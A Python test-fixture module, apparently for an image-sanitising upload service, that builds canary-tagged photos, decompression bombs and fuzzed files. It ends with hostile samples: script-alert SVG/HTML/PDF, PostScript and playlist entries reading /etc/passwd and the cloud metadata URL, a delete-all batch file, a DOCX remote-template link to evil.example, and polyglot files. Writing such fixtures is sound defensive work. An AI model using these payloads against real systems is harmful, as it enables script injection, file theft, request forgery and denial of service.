"""Files as people send them, and as somebody with bad intentions makes them. All written here."""

import random
import struct
import zlib
from io import BytesIO
from typing import Any

from PIL import Image, PngImagePlugin

#: Words that must never come out of a picture again.
SECRETS = (
    b"Canary-Camera",
    b"SN-4711-canary",
    b"canary was here",
    b"canary-profile",
    b"Canary Place",
)

CAMERA_MAKE, SOFTWARE, ARTIST, GPS, EXIF, SERIAL = 0x010F, 0x0131, 0x013B, 0x8825, 0x8769, 0xA431
ORIENTATION = 0x0112


def picture(
    form: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: Any
) -> bytes:
    """A small picture: red, with black in one corner, so that one sees which way is up."""
    drawn = Image.new(mode, size, "red")
    drawn.paste(Image.new(mode, (size[0] // 2, size[1] // 2), "black"), (0, 0))
    return saved(drawn, form, **options)


def saved(drawn: Image.Image, form: str, **options: Any) -> bytes:
    out = BytesIO()
    drawn.save(out, form, **options)
    return out.getvalue()


def photo_with_everything(form: str = "JPEG", size: tuple[int, int] = (400, 300)) -> bytes:
    """A photo that says where it was made, with what, by whom and when."""
    exif = Image.Exif()
    exif[CAMERA_MAKE], exif[SOFTWARE], exif[ARTIST] = "Canary-Camera", "canary was here", "Canary"
    exif.get_ifd(GPS).update({1: "N", 2: (52.0, 4.0, 30.0), 3: "E", 29: "Canary Place"})
    exif.get_ifd(EXIF)[SERIAL] = "SN-4711-canary"
    options: dict[str, Any] = {"exif": exif}
    if form == "PNG":
        options["pnginfo"] = PngImagePlugin.PngInfo()
        options["pnginfo"].add_text("Comment", "canary was here")
        options["pnginfo"].add_itxt("XML:com.adobe.xmp", "<x>Canary Place</x>")
    if form == "JPEG":
        options |= {"comment": b"canary was here", "xmp": b"<x>Canary Place</x>"}
    return picture(form, size, icc_profile=b"canary-profile" * 20, **options)


def sideways(orientation: int) -> bytes:
    """A photo whose camera was held another way."""
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    return picture("JPEG", (40, 30), exif=exif, quality=95)


def animation(frames: int, size: tuple[int, int] = (8, 8)) -> bytes:
    """A GIF with so many frames, written by hand: each as small as a frame can be."""
    width, height = size
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    one = b"!\xf9\x04\0\x0a\0\0\0" + b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02%s\0"
    # Black and white by turns, so that no two frames are one.
    drawn = (one % (b"\x44\x01" if number % 2 else b"\x4c\x01") for number in range(frames))
    return head + b"".join(drawn) + b";"


def png_that_claims(width: int, height: int) -> bytes:
    """A PNG that says it is so large, with hardly a byte behind it."""
    return _png(width, height, zlib.compress(bytes(1000)))


def png_of_nothing(width: int, height: int) -> bytes:
    """A PNG that really is so large, and all empty: a thousandth of the dots it unpacks to."""
    packer, line = zlib.compressobj(9), bytes(1 + 4 * width)
    return _png(
        width, height, b"".join(packer.compress(line) for _ in range(height)) + packer.flush()
    )


def _png(width: int, height: int, data: bytes, *chunks: bytes) -> bytes:
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    body = [header, *chunks, _chunk(b"IDAT", data), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)


def png_with_swollen_profile() -> bytes:
    """A small PNG whose colour profile unpacks to 200 MB."""
    packer = zlib.compressobj(9)
    zeros = bytes(1_000_000)
    packed = b"".join(packer.compress(zeros) for _ in range(200)) + packer.flush()
    dots = zlib.compress(bytes(8 * (1 + 4 * 8)))
    return _png(8, 8, dots, _chunk(b"iCCP", b"swollen\0\0" + packed))


def jpeg_with_fat_exif() -> bytes:
    """A JPEG that is nearly all APP1 segments."""
    fat = b"\xff\xe1\xff\xff" + b"Exif\0\0".ljust(65_533, b"\xaa")
    body = picture("JPEG")
    return body[:2] + fat * 150 + body[2:]


def tiff_of_many_pages(pages: int = 1_000_000) -> bytes:
    """A TIFF with a directory behind every directory."""
    entry = b"\0\0"
    walk = b"".join(entry + struct.pack("<I", 8 + 6 * (n + 1)) for n in range(pages))
    return b"II*\0" + struct.pack("<I", 8) + walk


def fuzzed(body: bytes, times: int) -> list[bytes]:
    """The same file with a few bytes changed, or its end gone; always the same ones."""
    chance = random.Random(4711)  # noqa: S311 - it must be the same tomorrow
    made = []
    for _ in range(times):
        bad = bytearray(body)
        for _ in range(chance.randint(1, 12)):
            bad[chance.randrange(8, len(bad))] = chance.randrange(256)
        made.append(bytes(bad[: chance.randint(20, len(bad))] if chance.random() < 0.3 else bad))
    return made


def _chunk(kind: bytes, data: bytes) -> bytes:
    check = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)


SCRIPT = "<script>alert(1)</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'.encode()
HTML = f"<!DOCTYPE html><html><body>{SCRIPT}</body></html>".encode()
XHTML = f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>'.encode()
XSLT = (
    b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?>'
    b'<xsl:stylesheet id="x" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'
)
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"
SWF = b"FWS\x09\x20\0\0\0\x78\0\x05\x5f\0\0\x0f\xa0\0\0\x0c\x01\0"
PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"
POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file 1000 string readstring pop show\n"
PLAYLIST = (
    b"#EXTM3U\n#EXTINF:10,\nfile:///etc/passwd\nhttp://169.254.169.254/latest\n#EXT-X-ENDLIST\n"
)
BATCH = b"@echo off\r\ndel /q *.*\r\n"
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(50)
DOCX = b"PK\x03\x04\x14\0\x06\0\x08\0\0\0!\0" + b"word/document.xml http://evil.example/t.dotm"

GIF_WITH_SCRIPT = b"GIF89a/*" + animation(1)[8:] + b"*/=1;alert(1);//" + HTML
PNG_WITH_HTML = picture("PNG") + HTML
JPEG_WITH_PHAR = picture("JPEG") + b"<?php __HALT_COMPILER(); ?>" + PLAYLIST
